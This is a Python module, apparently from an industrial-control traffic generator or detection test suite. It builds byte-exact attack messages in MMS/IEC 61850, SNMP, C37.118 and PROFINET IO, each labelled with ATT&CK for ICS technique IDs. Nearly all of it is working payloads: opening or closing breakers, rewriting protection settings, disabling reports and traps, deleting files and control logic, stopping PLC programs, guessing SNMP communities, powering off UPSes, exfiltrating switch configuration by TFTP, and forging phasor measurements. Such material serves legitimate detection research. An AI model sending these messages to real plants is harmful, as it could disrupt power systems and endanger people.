"""Attackers' messages in MMS, SNMP, C37.118 and PROFINET IO, built from the specifications."""

from __future__ import annotations

import struct
from collections.abc import Callable

from .makers.wire import C, S
from .speakers import Speaker, tpkt


def ber(tag: str, *contents: bytes) -> bytes:
    """Tag, length in the shortest form, contents."""
    body = b"".join(contents)
    size = len(body)
    if size < 128:
        length = bytes([size])
    elif size < 256:
        length = bytes([0x81, size])
    else:
        length = b"\x82" + size.to_bytes(2, "big")
    return bytes.fromhex(tag) + length + body


# MMS (ISO 9506) over ISO session and presentation


def presented(pdu: bytes, context: int = 3) -> bytes:
    """A data transfer: session, presentation user data, the MMS context."""
    data = ber("61", ber("30", ber("02", bytes([context])), ber("a0", pdu)))
    return tpkt(b"\x02\xf0\x80\x01\x00\x01\x00" + data)


def mms(*services: bytes) -> Callable[[int], list[bytes]]:
    """Confirmed requests, the ids counted from one that belongs to the session."""
    return lambda unit: [
        presented(ber("a0", ber("02", (unit * 40 + n).to_bytes(1 + (unit > 3), "big")), service))
        for n, service in enumerate(services, 1)
    ]


def name(domain: str, item: str) -> bytes:
    return ber("a1", ber("1a", domain.encode()), ber("1a", item.encode()))


def variables(*names: bytes) -> bytes:
    """A list of variables by name, as a variable access specification."""
    return ber("a0", *(ber("30", ber("a0", one)) for one in names))


def write(domain: str, item: str, data: bytes) -> bytes:
    return ber("a5", variables(name(domain, item)), ber("a0", data))


def operate(value: int) -> bytes:
    """IEC 61850's Oper: value, origin, number, time, test, check."""
    origin = ber("a2", ber("85", b"\3"), ber("89", b"remote"))
    return ber(
        "a2",
        ber("83", bytes([value])),
        origin,
        ber("86", b"\1"),
        ber("91", bytes(8)),
        ber("83", b"\0"),
        ber("84", b"\x06\0"),
    )


INITIATE = ber(
    "a8",
    ber("80", b"\0\xfd\xe8"),
    ber("81", b"\5"),
    ber("82", b"\5"),
    ber("83", b"\n"),
    ber(
        "a4",
        ber("80", b"\1"),
        ber("81", bytes.fromhex("05f100")),
        ber("82", bytes.fromhex("03ee1c00000408000079ef18")),
    ),
)


CONTEXT, BASIC = bytes.fromhex("28ca220203"), bytes.fromhex("5101")


def session(kind: int, parameters: str, offer: bytes) -> bytes:
    """A session SPDU with its parameters in front of the presentation's offer."""
    said = bytes.fromhex("0506130100160102 14020002" + parameters) + ber("c1", offer)
    return tpkt(b"\x02\xf0\x80" + ber(f"{kind:02x}", said))


def associated(acse: bytes, contexts: bytes, ends: bytes) -> bytes:
    data = ber("61", ber("30", ber("02", b"\1"), ber("a0", acse)))
    return ber("31", ber("a0", ber("80", b"\1")), ber("a2", ends, contexts, data))


def user(pdu: bytes) -> bytes:
    return ber("be", ber("28", ber("06", BASIC), ber("02", b"\3"), ber("a0", pdu)))


def association(pdu: bytes) -> bytes:
    """CONNECT with presentation CP, ACSE AARQ and the initiate request."""
    acse = ber("60", ber("a1", ber("06", CONTEXT)), user(pdu))
    syntaxes = (b"\1", bytes.fromhex("52010001")), (b"\3", bytes.fromhex("28ca220201"))
    contexts = ber(
        "a4",
        *(
            ber("30", ber("02", number), ber("06", syntax), ber("30", ber("06", BASIC)))
            for number, syntax in syntaxes
        ),
    )
    ends = ber("81", bytes(3) + b"\1") + ber("82", bytes(3) + b"\1")
    return session(0x0D, "33020001 34020001", associated(acse, contexts, ends))


def accepted(pdu: bytes) -> bytes:
    """ACCEPT with presentation CPA, ACSE AARE and the initiate response."""
    acse = ber(
        "61",
        ber("a1", ber("06", CONTEXT)),
        ber("a2", ber("02", b"\0")),
        ber("a3", ber("a1", ber("02", b"\0"))),
        user(pdu),
    )
    one = ber("30", ber("80", b"\0"), ber("81", BASIC))
    return session(0x0E, "34020001", associated(acse, ber("a5", one, one), ber("83", bytes(4))))


STATUS = presented(
    ber(
        "a0",
        ber("02", b"\7"),
        ber("a4", ber("a1", variables(name("RELAY1LD0", "XCBR1$ST$Pos$stVal")))),
    )
)
MMS = Speaker(
    "mms",
    102,
    opening=[
        (C, tpkt(bytes.fromhex("11e00000000100c0010dc2020001c1020001"))),
        (S, tpkt(bytes.fromhex("11d00001000200c0010dc2020001c1020001"))),
        (C, association(INITIATE)),
        (S, accepted(b"\xa9" + INITIATE[1:])),
    ],
    poll=STATUS,
    reply=presented(ber("a1", ber("02", b"\7"), ber("a4", ber("a1", ber("83", b"\0"))))),
    attacks=[
        (
            "breaker opened",
            "T1692.001 T0831",
            mms(write("RELAY1LD0", "CSWI1$CO$Pos$Oper", operate(0))),
        ),
        (
            "breaker selected, closed",
            "T1692.001 T0831",
            mms(
                write("IED7CTRL", "XCBR1$CO$Pos$SBOw", operate(1)),
                write("IED7CTRL", "XCBR1$CO$Pos$Oper", operate(1)),
            ),
        ),
        (
            "setting written",
            "T0836 T0831 T1692.001",
            mms(
                write(
                    "RELAY1PROT", "PTOC1$SE$StrVal$setMag$f", ber("87", bytes.fromhex("0842c80000"))
                )
            ),
        ),
        (
            "reports switched off",
            "T1691 T0878 T0838 T0804 T0836",
            mms(write("RELAY1LD0", "LLN0$BR$brcbA01$RptEna", ber("83", b"\0"))),
        ),
        (
            "setting group changed",
            "T0836 T0838 T0858",
            mms(write("RELAY1PROT", "LLN0$SP$SGCB$ActSG", ber("86", b"\2"))),
        ),
        (
            "mode of a node set to off",
            "T0836 T0831 T1692.001 T0881 T0858 T0878",
            mms(write("RELAY1PROT", "LLN0$CO$Mod$Oper", operate(0))),
        ),
        (
            "domains listed",
            "T0861 T0888 T0846",
            mms(ber("a1", ber("a0", ber("80", b"\x09")), ber("a1", ber("80", b"")))),
        ),
        (
            "variables listed",
            "T0861 T0888",
            mms(ber("a1", ber("a0", ber("80", b"\0")), ber("a1", ber("81", b"RELAY1LD0")))),
        ),
        ("identity", "T0888 T0846", mms(bytes.fromhex("8200"))),
        (
            "types read",
            "T0861 T0888",
            mms(*[ber("a6", ber("a0", name("RELAY1LD0", f"XCBR{n}"))) for n in range(1, 9)]),
        ),
        (
            "list of variables defined",
            "T0861 T0802 T0836 T0889",
            mms(
                ber(
                    "ab",
                    name("RELAY1LD0", "LLN0$mine"),
                    ber("a0", ber("30", ber("a0", name("RELAY1LD0", "XCBR1$ST$Pos")))),
                )
            ),
        ),
        (
            "list of variables deleted",
            "T0809 T0836 T0804 T1691 T0838",
            mms(ber("ad", ber("80", b"\0"), ber("a1", name("RELAY1LD0", "LLN0$dsAlarms")))),
        ),
        (
            "files listed",
            "T0888 T0861 T0802 T0845 T0893",
            mms(ber("bf4d", ber("a0", ber("19", b"COMTRADE")))),
        ),
        (
            "file read",
            "T0802 T0845 T0893 T0811 T0882",
            mms(
                ber("bf48", ber("a0", ber("19", b"config.cid")), ber("81", b"\0")),
                ber("9f49", b"\x0d"),
                ber("9f4a", b"\x0d"),
            ),
        ),
        ("file deleted", "T0809 T0872", mms(ber("bf4c", ber("a0", ber("19", b"events.log"))))),
        (
            "file renamed",
            "T0849 T0809 T0872 T0889 T0836",
            mms(ber("bf4b", ber("a0", ber("19", b"a.cid")), ber("a1", ber("19", b"b.cid")))),
        ),
        (
            "file fetched by the server",
            "T0867 T0843 T1693 T0889",
            mms(ber("bf2e", ber("a1", ber("19", b"fw.bin")), ber("a2", ber("19", b"fw.bin")))),
        ),
        (
            "domain downloaded",
            "T0843 T0889 T0821",
            mms(ber("ba", ber("80", b"LOGIC"), ber("a1"), ber("82", b"\xff"))),
        ),
        ("domain uploaded", "T0845", mms(ber("9d", b"LOGIC"))),
        ("domain deleted", "T0809 T0889 T0821", mms(ber("9f24", b"LOGIC"))),
        ("program started", "T0858 T0831 T0871", mms(ber("bf28", ber("80", b"MAIN")))),
        ("program stopped", "T0858 T0881", mms(ber("bf29", ber("80", b"MAIN")))),
        ("program reset", "T0816 T0858", mms(ber("bf2b", ber("80", b"MAIN")))),
        ("program killed", "T0881 T0858 T0809", mms(ber("bf2c", ber("80", b"MAIN")))),
        (
            "burst of operations",
            "T0806",
            mms(*[write("RELAY1LD0", "CSWI1$CO$Pos$Oper", operate(n & 1)) for n in range(60)]),
            0.005,
        ),
    ],
)


# SNMP over UDP


def oid(text: str) -> bytes:
    first, second, *rest = map(int, text.split("."))
    said = [first * 40 + second]
    for number in rest:
        groups = [number & 127]
        while number := number >> 7:
            groups.insert(0, 128 | number & 127)
        said += groups
    return ber("06", bytes(said))


def snmp(
    kind: str,
    names: dict[str, bytes] | list[str],
    community: bytes = b"scada-rw",
    version: int = 1,
    extra: tuple[int, int] = (0, 0),
) -> Callable[[int], list[bytes]]:
    pairs = names if isinstance(names, dict) else dict.fromkeys(names, b"\5\0")

    def made(unit: int) -> list[bytes]:
        bindings = ber("30", *(ber("30", oid(o), value) for o, value in pairs.items()))
        numbers = ber("02", bytes([unit, 77])), *(ber("02", bytes([n])) for n in extra)
        pdu = ber(kind, *numbers, bindings)
        return [ber("30", ber("02", bytes([version])), ber("04", community), pdu)]

    return made


def asked(*many: Callable[[int], list[bytes]]) -> Callable[[int], list[bytes]]:
    return lambda unit: [message for one in many for message in one(unit)]


def number(value: int) -> bytes:
    return ber("02", bytes([value]))


IF = "1.3.6.1.2.1.2.2.1"
COPY = "1.3.6.1.4.1.9.9.96.1.1.1.1"
SNMP = Speaker(
    "snmp",
    161,
    datagrams=True,
    poll=snmp("a0", [f"{IF}.10.3"], b"plant-ro")(1)[0],
    reply=snmp("a2", {f"{IF}.10.3": ber("41", b"\1\2\3")}, b"plant-ro")(1)[0],
    attacks=[
        ("system described", "T0888 T0846", snmp("a0", ["1.3.6.1.2.1.1.1.0"], b"public")),
        (
            "system described, version 1",
            "T0888 T0846",
            snmp("a0", ["1.3.6.1.2.1.1.1.0", "1.3.6.1.2.1.1.5.0"], b"public", 0),
        ),
        (
            "all walked",
            "T0888 T0861 T0802 T0846",
            asked(*[snmp("a1", [f"1.3.6.1.2.1.{n}"]) for n in range(1, 40)]),
            0.02,
        ),
        (
            "all walked in bulk",
            "T0888 T0861 T0802 T0846",
            snmp("a5", ["1.3.6.1.2.1"], extra=(0, 100)),
        ),
        (
            "neighbours read",
            "T0840 T0846 T0888",
            asked(*[snmp("a1", [f"1.3.6.1.2.1.4.22.1.{n}"]) for n in range(1, 5)]),
        ),
        ("routes read", "T0840 T0846 T0888 T0842", snmp("a5", ["1.3.6.1.2.1.4.21"], extra=(0, 50))),
        ("parts read", "T0888", snmp("a1", ["1.3.6.1.2.1.47.1.1.1.1"])),
        (
            "communities tried",
            "T0859 T1694 T0806 T0846 T0812",
            asked(
                *[
                    snmp("a0", ["1.3.6.1.2.1.1.1.0"], w.encode())
                    for w in "public private admin cisco write manager secret snmp default "
                    "monitor agent internal system rmon security tech".split()
                ]
            ),
            0.03,
        ),
        (
            "default community written with",
            "T1694 T0812 T0836 T0859",
            snmp("a3", {"1.3.6.1.2.1.1.5.0": ber("04", b"x")}, b"private"),
        ),
        ("name written", "T0836 T0832", snmp("a3", {"1.3.6.1.2.1.1.5.0": ber("04", b"plc9")})),
        (
            "interface down",
            "T0814 T0836 T1691 T0826 T0881 T0803 T0804",
            snmp("a3", {f"{IF}.7.4": number(2)}),
        ),
        ("forwarding on", "T0836 T0830", snmp("a3", {"1.3.6.1.2.1.4.1.0": number(1)})),
        (
            "route written",
            "T0830 T0836",
            snmp("a3", {"1.3.6.1.2.1.4.21.1.7.10.9.0.0": ber("40", bytes([10, 9, 0, 1]))}),
        ),
        (
            "configuration pulled by TFTP",
            "T0893 T0811 T0845 T0867 T0882",
            snmp(
                "a3",
                {
                    f"{COPY}.2.51": number(1),
                    f"{COPY}.3.51": number(4),
                    f"{COPY}.4.51": number(1),
                    f"{COPY}.5.51": ber("40", bytes([10, 3, 3, 3])),
                    f"{COPY}.6.51": ber("04", b"r.cfg"),
                    f"{COPY}.14.51": number(1),
                },
            ),
        ),
        ("switch reloaded", "T0816", snmp("a3", {"1.3.6.1.4.1.9.2.9.9.0": number(2)})),
        (
            "UPS shut down",
            "T0816 T0881 T0826 T0831 T0814 T0827",
            snmp("a3", {"1.3.6.1.2.1.33.1.8.2.0": number(0)}),
        ),
        (
            "outlet off",
            "T0816 T0831 T1692.001 T0826 T0881",
            snmp("a3", {"1.3.6.1.4.1.318.1.1.12.3.3.1.1.4.3": number(2)}),
        ),
        (
            "traps switched off",
            "T0878 T0838 T1691 T0836",
            snmp("a3", {"1.3.6.1.2.1.11.30.0": number(2)}),
        ),
        (
            "engine sought, version 3",
            "T0846 T0888",
            lambda u: [
                ber(
                    "30",
                    number(3),
                    ber(
                        "30",
                        ber("02", bytes([u, 9])),
                        ber("02", bytes.fromhex("00ffe3")),
                        ber("04", b"\4"),
                        number(3),
                    ),
                    ber(
                        "04",
                        ber("30", ber("04"), number(0), number(0), ber("04"), ber("04"), ber("04")),
                    ),
                    ber(
                        "30",
                        ber("04"),
                        ber("04"),
                        ber("a0", ber("02", bytes([u, 8])), number(0), number(0), ber("30")),
                    ),
                )
            ],
        ),
    ],
)


# C37.118.2: synchrophasors


def ccitt(data: bytes) -> bytes:
    value = 0xFFFF
    for byte in data:
        value ^= byte << 8
        for _ in range(8):
            value = (value << 1 ^ 0x1021 if value & 0x8000 else value << 1) & 0xFFFF
    return struct.pack(">H", value)


def phasor(kind: int, body: str, station: int = 7, version: int = 1, cut: int = 0) -> bytes:
    data = bytes.fromhex(body)
    head = struct.pack(
        ">BBHHII", 0xAA, kind << 4 | version, 16 + len(data) - cut, station, 1795500000, 0x00012345
    )
    return head + data + ccitt(head + data)


def order(number: int, more: str = "") -> Callable[[int], list[bytes]]:
    return lambda unit: [phasor(4, f"{number:04x}" + more, unit)]


MEASURED = phasor(0, "0000 3965000000000000 03e8 0000")
C37 = Speaker(
    "c37118",
    4712,
    poll=b"",
    reply=MEASURED,
    opening=[(C, phasor(4, "0005")), (S, MEASURED)],
    attacks=[
        ("data off", "T1691 T0804 T0803 T0815 T0878 T0814 T0829", order(1)),
        ("header asked", "T0888 T0846 T0861", order(3)),
        ("configuration 1 asked", "T0861 T0888", order(4)),
        ("configuration 3 asked", "T0861 T0888", order(6)),
        ("extended frame", "T1692.001 T0871 T0831 T0836", order(8, "0badcafe01020304")),
        (
            "configuration written",
            "T0836 T0832 T1692 T0889",
            lambda u: [
                phasor(
                    3,
                    "000f4240 0001" + b"STATION A       ".hex() + "0007 0000 0001 0000"
                    "0000" + b"VA              ".hex() + "00000000 0000 0001 001e",
                    u,
                )
            ],
        ),
        (
            "measurements forged",
            "T1692.002 T0832 T0856 T0830 T0831",
            lambda u: [phasor(0, "0000 39650000 0000 0000 03e80000", u) for _ in range(3)],
        ),
        (
            "devices swept",
            "T0846 T0888",
            lambda _: [phasor(4, "0005", n) for n in range(1, 50)],
            0.02,
        ),
        (
            "data on and off over and over",
            "T0814 T0806 T1691 T0804 T0803",
            lambda u: [phasor(4, f"{1 + n % 2:04x}", u) for n in range(40)],
            0.01,
        ),
        ("length beyond the frame", "T0814 T0866", lambda u: [phasor(4, "0005", u, cut=-4000)]),
    ],
)


# PROFINET IO context management: DCE/RPC over UDP

DEVICE = bytes.fromhex("0100a0de976cd111827100a02442df7d")
MAPPER = bytes.fromhex("0883afe11f5dc91191a408002b14a0fa")


def rpc(operation: int, body: bytes, unit: int, interface: bytes = DEVICE) -> bytes:
    """A connectionless request, little-endian."""
    thing = bytes.fromhex("0000a0de976cd1118271000100") + bytes([unit]) + b"\x01\x2a"
    activity = bytes([unit]) + bytes.fromhex("aa10beef0011c022334455667788 99".replace(" ", ""))
    head = bytes.fromhex("04 00 20 00 10 00 00 00".replace(" ", "")) + thing + interface + activity
    head += struct.pack("<IIIHHHHHBB", 0, 1, unit, operation, 0xFFFF, 0xFFFF, len(body), 0, 0, 0)
    return head + body


def arguments(blocks: bytes) -> bytes:
    return struct.pack("<IIIII", 1460, len(blocks), 1460, 0, len(blocks)) + blocks


def block(kind: int, body: str) -> bytes:
    data = bytes.fromhex(body)
    return struct.pack(">HHBB", kind, len(data) + 2, 1, 0) + data


RELATION = "aa00bb00cc00dd00ee00ff0011002200"


def record(kind: int, index: int, payload: str = "", slot: int = 1) -> bytes:
    data = bytes.fromhex(payload)
    head = f"0003{RELATION}00000000{slot:04x}00010000{index:04x}{len(data) or 4096:08x}" + "00" * 24
    return arguments(block(kind, head) + data)


def cm(operation: int, body: bytes) -> Callable[[int], list[bytes]]:
    return lambda unit: [rpc(operation, body, unit)]


CONNECT = arguments(
    block(
        0x0101,
        f"0001{RELATION}0003020406080a0c{'dea000006c9711d1827100010002012a'}00000011 0064"
        "8892 000b" + b"supervisor1".hex(),
    )
    + block(
        0x0102,
        "0001 0001 8892 00000002 0028 8000 0020 0001 0000 ffffffff 0003 0003 c000"
        "000000000000 0000 0000",
    ),
)
PROFINET = Speaker(
    "profinet",
    34964,
    datagrams=True,
    poll=cm(2, record(0x0009, 0x8028))(1)[0],
    reply=cm(2, arguments(block(0x8009, "0003" + RELATION)))(1)[0],
    attacks=[
        (
            "connected to",
            "T0831 T0814 T0858 T0836 T0871 T1692 T1691 T0885 T0869 T0830",
            cm(0, CONNECT),
        ),
        (
            "released",
            "T0814 T1691 T0826 T0881 T0831 T0813 T0803 T0815",
            cm(1, arguments(block(0x0114, f"0000{RELATION}0001 0000 0004 0000"))),
        ),
        ("parameter written", "T0836 T0831 T1692.001", cm(3, record(0x0008, 0x0001, "00ff00aa"))),
        (
            "name plate written",
            "T0836 T0832 T0849",
            cm(3, record(0x0008, 0xAFF1, "0021003801005550" + "20" * 52)),
        ),
        (
            "address block written",
            "T0836 T1691 T0814 T0831",
            cm(3, record(0x0008, 0x8071, "02500008010000000001000a")),
        ),
        ("identity read", "T0888", cm(2, record(0x0009, 0xAFF0))),
        ("identity read without a relation", "T0888 T0846", cm(5, record(0x0009, 0xAFF0))),
        ("topology read", "T0840 T0846 T0888", cm(5, record(0x0009, 0xF841))),
        (
            "devices' interfaces listed",
            "T0846 T0888",
            lambda u: [
                rpc(
                    2,
                    struct.pack("<II", 0, 0)
                    + bytes(16)
                    + struct.pack("<I", 1)
                    + bytes(20)
                    + struct.pack("<I", 1),
                    u,
                    MAPPER,
                )
            ],
        ),
        ("diagnosis read", "T0888 T0801 T0868 T0802", cm(2, record(0x0009, 0xF80C))),
    ],
)

ALL = (MMS, SNMP, C37, PROFINET)
